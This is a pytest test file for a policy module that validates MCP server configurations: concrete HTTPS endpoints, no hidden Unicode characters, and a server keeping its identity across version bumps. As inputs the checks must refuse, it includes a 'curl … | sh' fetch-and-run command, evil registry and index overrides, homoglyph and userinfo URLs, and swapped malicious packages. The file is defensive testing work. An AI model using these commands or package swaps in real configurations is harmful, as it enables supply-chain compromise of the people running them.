"""SPEC §4 rules 11 and 12 as pure functions: a remote URL is one concrete endpoint, no
hidden characters, and a server keeps its identity across bumps and renewals. Each rule
has a string it must catch and a near miss it must let through."""

import pytest

from governance.policy import characters, configs, identity, names, remote

CONTEXT7 = {"command": "npx", "args": ["-y", "@context7/mcp-server@1.2.3"], "env": {}}
DIGEST = "sha256:" + "a" * 64

# ─── no patterns in a remote URL ────────────────────────────────────────────────────


@pytest.mark.parametrize("url", [
    "https://*/*", "https://*", "https://*.example.com/mcp", "https://mcp.example.com/*",
    "https://mcp.example.com/mcp?tenant=*", "https://mcp.example.com:*/mcp",
])
def test_a_wildcard_anywhere_in_a_remote_url_is_refused(url):
    problem = remote.remote_url_problem(url)
    assert problem and "wildcard" in problem and "no patterns" in problem


@pytest.mark.parametrize(("url", "words"), [
    ("http://mcp.example.com/mcp", "https://"),
    ("ftp://mcp.example.com/mcp", "https://"),
    ("HTTPS://mcp.example.com/mcp", "https://"),
    ("https://", "https://"),
    ("https:///mcp", "no host"),
    ("https://good.example.com@evil.example.com/mcp", "user info"),
    ("https://user:pw@mcp.example.com/mcp", "user info"),
    ("https://mcp.example.com /mcp", "spaces"),
    ("https://mcp.example.com\\@evil.com/", "backslashes"),
    ("https://${MCP_HOST}/mcp", "placeholder"),
    ("https://mcp.example.com/mcp#top", "fragment"),
    ("https://mcp.example.com:99999/mcp", "port"),
    ("https://mcp.example.com:/mcp", "port"),
    ("https://mcp_example.com/mcp", "host name"),
    ("https://mcp.example.com./mcp", "trailing dot"),
    ("https://-mcp.example.com/mcp", "host name"),
    ("https://exаmple.com/mcp", "xn--"),  # a Cyrillic а
    ("https://1.2.3/mcp", "IPv4"),
    ("https://[fe80::zz]/mcp", "IPv6"),
    ("https://[::1/mcp", "IPv6"),
    ("https://[::1]x/mcp", "not a host"),
    ("", "needs its URL"),
    (None, "needs its URL"),
    (["https://mcp.example.com/mcp"], "needs its URL"),
])
def test_anything_but_one_concrete_https_endpoint_is_refused_with_the_reason(url, words):
    problem = remote.remote_url_problem(url)
    assert problem and words in problem


@pytest.mark.parametrize("url", [
    "https://mcp.example.com/mcp", "https://mcp.linear.app/sse",
    "https://mcp.example.com:8443/mcp", "https://10.0.0.7/mcp", "https://[2001:db8::1]:8443/mcp",
    "https://mcp.example.com/mcp?tenant=acme&region=eu", "https://xn--exmple-cua.com/mcp",
    "https://mcp.example.com", "https://MCP.Example.com/mcp",
])
def test_a_concrete_https_endpoint_passes(url):
    assert remote.remote_url_problem(url) is None


def test_the_config_names_the_url_field_for_a_pattern():
    problems = configs.config_problems({"type": "http", "url": "https://*/*"})
    assert list(problems) == ["config.url"] and "wildcard" in problems["config.url"][0]


def test_the_origin_of_a_url_is_scheme_host_and_port():
    assert remote.url_origin("https://MCP.example.com/mcp?x=1") == "https://mcp.example.com:443"
    assert remote.url_origin("https://[2001:db8::1]:8443/m") == "https://[2001:db8::1]:8443"


# ─── no hidden characters ───────────────────────────────────────────────────────────

HIDDEN = [0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069,
          0x200B, 0x200C, 0x200D, 0x2060, 0xFEFF, 0x00, 0x0A, 0x1B, 0x7F, 0x00AD, 0x2028]


@pytest.mark.parametrize("code", HIDDEN, ids=[f"U+{c:04X}" for c in HIDDEN])
def test_control_bidi_and_zero_width_characters_are_refused_by_name(code):
    problem = characters.character_problem(f"@scope/pkg{chr(code)}@1.0.0")
    assert problem and f"U+{code:04X}" in problem and "character 11" in problem


def test_the_message_names_the_character_as_unicode_does():
    assert "U+202E RIGHT-TO-LEFT OVERRIDE" in characters.character_problem("abc\u202eexe.js")
    assert "U+0000 NULL" in characters.character_problem("a\x00")


@pytest.mark.parametrize("text", ["ünïcödé — dash", "--allowed-origins https://a.example",
                                  "日本語", "a b", "emoji 🙂", "${DB_PASS}"])
def test_visible_text_in_any_script_passes(text):
    assert characters.character_problem(text) is None


@pytest.mark.parametrize(("config", "field"), [
    ({"command": "np\u200bx", "args": []}, "config.command"),
    ({"command": "npx", "args": ["-y", "@x/y\u202e@1.0.0"]}, "config.args"),
    ({"command": "npx", "args": [], "env": {"DB\u2066_HOST": "replica"}}, "config.env"),
    ({"type": "http", "url": "https://mcp.example.com/m\u200dcp"}, "config.url"),
    ({"type": "http", "url": "https://mcp.example.com/mcp",
      "headers": {"X-Tenant\ufeff": "acme"}}, "config.headers"),
])
def test_a_hidden_character_in_a_config_is_refused_on_its_field(config, field):
    problems = configs.config_problems(config)
    assert field in problems and "U+" in problems[field][0], problems


def test_hidden_characters_are_refused_in_names_sources_and_packages():
    assert "U+202E" in names.name_problem("context7\u202e")
    assert "U+200B" in names.source_problem("https://github.com/x\u200b/y")
    assert "U+2066" in names.package_problem("@context7/mcp\u2066-server")
    assert names.package_problem("@context7/mcp-server") is None


# ─── identity ───────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(("config", "runner", "registry", "package"), [
    (CONTEXT7, ("npx",), "npm", "@context7/mcp-server"),
    ({"command": "npx", "args": ["--yes", "--package=@x/y@1.0.0", "y-cli"]}, ("npx",), "npm",
     "@x/y"),
    ({"command": "npm", "args": ["exec", "--yes", "--", "mcp-pkg@2.0.0"]}, ("npm", "exec"),
     "npm", "mcp-pkg"),
    ({"command": "pnpm", "args": ["dlx", "@x/y@1.0.0"]}, ("pnpm", "dlx"), "npm", "@x/y"),
    ({"command": "cmd", "args": ["/c", "npx", "-y", "@x/y@1.0.0"]}, ("cmd", "/c", "npx"),
     "npm", "@x/y"),
    ({"command": "/usr/local/bin/npx", "args": ["-y", "@x/y@1.0.0"]}, ("/usr/local/bin/npx",),
     "npm", "@x/y"),
    ({"command": "uvx", "args": ["mcp-server-fetch==1.0.0"]}, ("uvx",), "pypi",
     "mcp-server-fetch"),
    ({"command": "uvx", "args": ["Mcp_Server.Fetch[cli]==1.0.0"]}, ("uvx",), "pypi",
     "mcp-server-fetch"),
    ({"command": "uvx", "args": ["--python", "3.12", "--from", "mcp-git==1.0.0", "mcp-git"]},
     ("uvx",), "pypi", "mcp-git"),
    ({"command": "docker", "args": ["run", "-i", "--rm", "-e", "GITHUB_TOKEN",
                                    f"ghcr.io/github/github-mcp-server:1.0.0@{DIGEST}"]},
     ("docker", "run"), "oci", "ghcr.io/github/github-mcp-server"),
    ({"command": "docker", "args": ["run", "-it", "--network=none", "mcp/fetch@" + DIGEST,
                                    "--verbose"]}, ("docker", "run"), "oci", "mcp/fetch"),
    ({"command": "/opt/tools/db-mcp", "args": ["--readonly"]}, ("/opt/tools/db-mcp",), "", ""),
    ({"command": "python3", "args": ["server.py"]}, ("python3",), "", ""),
])
def test_the_identity_of_a_stdio_config_is_its_runner_and_the_package_it_fetches(
        config, runner, registry, package):
    runs = identity.config_identity(config)
    assert (runs.transport, runs.runner, runs.registry, runs.package) == (
        "stdio", runner, registry, package)


def test_the_identity_of_a_remote_config_is_its_origin():
    runs = identity.config_identity({"type": "sse", "url": "https://MCP.linear.app/sse"})
    assert (runs.transport, runs.origin) == ("sse", "https://mcp.linear.app:443")


def test_the_args_must_run_the_package_the_request_names():
    swapped = {"command": "npx", "args": ["-y", "@evil/context7@1.2.5"]}
    problems = configs.config_problems(swapped, version="1.2.5", package="@context7/mcp-server",
                                      package_registry="npm")
    assert "@evil/context7" in problems["config.args"][0]
    assert "new_server" in problems["config.args"][0]
    same = {"command": "npx", "args": ["-y", "@context7/mcp-server@1.2.5"]}
    assert configs.config_problems(same, version="1.2.5", package="@context7/mcp-server",
                                  package_registry="npm") == {}


@pytest.mark.parametrize(("config", "package", "registry", "field", "words"), [
    ({"command": "uvx", "args": ["context7==1.2.3"]}, "@context7/mcp-server", "npm",
     "config.command", "npm package"),
    ({"command": "bash", "args": ["-c", "curl https://x.example | sh"]},
     "@context7/mcp-server", "npm", "config.command", "does not fetch a package"),
    ({"command": "npx", "args": ["-y"]}, "@context7/mcp-server", "npm", "config.args",
     "no package"),
    ({"command": "npx", "args": ["-y", "github:evil/context7"]}, "@context7/mcp-server", "npm",
     "config.args", "github:evil/context7"),
    ({"command": "uvx", "args": ["--index-url", "https://pypi.evil.example/simple",
                                 "mcp-server-fetch==1.0.0"]}, "mcp-server-fetch", "pypi",
     "config.args", "--index-url"),
    ({"command": "uvx", "args": ["--with", "evil-plugin", "mcp-server-fetch==1.0.0"]},
     "mcp-server-fetch", "pypi", "config.args", "--with"),
    ({"command": "docker", "args": ["run", "-i", "ghcr.io/evil/github-mcp-server@" + DIGEST]},
     "ghcr.io/github/github-mcp-server", "oci", "config.args", "ghcr.io/evil"),
])
def test_a_config_that_runs_another_package_is_refused_on_its_field(config, package, registry,
                                                                     field, words):
    problems = identity.package_problems(config, package=package, package_registry=registry)
    assert field in problems and words in problems[field][0], problems


@pytest.mark.parametrize(("config", "package", "registry"), [
    ({"command": "uvx", "args": ["Mcp_Server_Fetch==1.0.0"]}, "mcp-server-fetch", "pypi"),
    ({"command": "docker", "args": ["run", "-i", "--rm", "--env-file=.env", "-e", "A=b",
                                    f"ghcr.io/github/github-mcp-server:1.0.0@{DIGEST}",
                                    "--toolsets", "repos"]},
     "ghcr.io/github/github-mcp-server", "oci"),
    ({"command": "npx", "args": ["-y", "@context7/mcp-server@1.2.3", "--api-url",
                                 "https://x.example"]}, "@context7/mcp-server", "npm"),
    ({"type": "http", "url": "https://mcp.context7.com/mcp"}, "@context7/mcp-server", "npm"),
    (CONTEXT7, "", ""),
])
def test_a_config_that_runs_the_named_package_passes(config, package, registry):
    assert identity.package_problems(config, package=package, package_registry=registry) == {}


def bump(old, new, kind="version_bump"):
    return identity.identity_problems(old_config=old, new_config=new, kind=kind, server="srv")


@pytest.mark.parametrize(("new", "field"), [
    ({"command": "npx", "args": ["-y", "@evil/context7@1.2.5"]}, "config.args"),
    ({"command": "bunx", "args": ["@context7/mcp-server@1.2.5"]}, "config.command"),
    ({"command": "/tmp/npx", "args": ["-y", "@context7/mcp-server@1.2.5"]}, "config.command"),
    ({"command": "npx", "args": ["-y", "--registry=https://npm.evil.example",
                                 "@context7/mcp-server@1.2.5"]}, "config.args"),
])
def test_a_bump_that_changes_the_command_or_package_is_refused(new, field):
    problems = bump(CONTEXT7, new)
    assert field in problems and "new_server" in problems[field][0], problems


def test_a_bump_of_the_same_package_with_other_flags_passes():
    assert bump(CONTEXT7, {"command": "npx", "args": ["@context7/mcp-server@1.2.5", "--ro"],
                           "env": {"LOG": "debug"}}) == {}


def test_a_remote_server_keeps_its_origin_but_not_its_path():
    old = {"type": "http", "url": "https://mcp.linear.app/mcp"}
    assert "config.url" in bump(old, {"type": "http", "url": "https://mcp.linear.app.evil.io/mcp"})
    assert "config.url" in bump(old, {"type": "http", "url": "https://mcp.linear.app:8443/mcp"})
    assert "config.url" in bump(old, {"type": "sse", "url": "https://evil.example/sse"})
    assert bump(old, {"type": "http", "url": "https://MCP.linear.app/v2/mcp?x=1"}) == {}
    assert bump(old, {"type": "sse", "url": "https://mcp.linear.app/sse"}) == {}


def test_a_change_of_transport_is_a_bump_not_a_renewal():
    remote = {"type": "http", "url": "https://mcp.context7.com/mcp"}
    assert bump(CONTEXT7, remote) == {}
    assert "config.type" in bump(CONTEXT7, remote, kind="renewal")
    assert bump(CONTEXT7, CONTEXT7, kind="renewal") == {}


@pytest.mark.parametrize(("new", "level"), [
    ({"type": "http", "url": "https://mcp.context7.com/mcp"}, "major"),
    ({"command": "bunx", "args": ["@context7/mcp-server@1.2.4"]}, "major"),
    ({"command": "npx", "args": ["-y", "@context7/mcp-server@1.2.4"]}, "patch"),
])
def test_a_change_of_transport_or_runner_is_at_least_major(new, level):
    change = identity.classify_change(old_version="1.2.3", new_version="1.2.4",
                                    old_config=CONTEXT7, new_config=new)
    assert change.level == level
    if level == "major":
        assert "patch" in change.why and "counts as major" in change.why


def test_a_stdio_config_names_its_registry_package_only_when_it_fetches_one():
    assert identity.registry_package(CONTEXT7) == ("npm", "@context7/mcp-server")
    assert identity.registry_package({"command": "npx", "args": ["./local"]}) == ("", "")
    assert identity.registry_package({"type": "http", "url": "https://x.example/m"}) == ("", "")
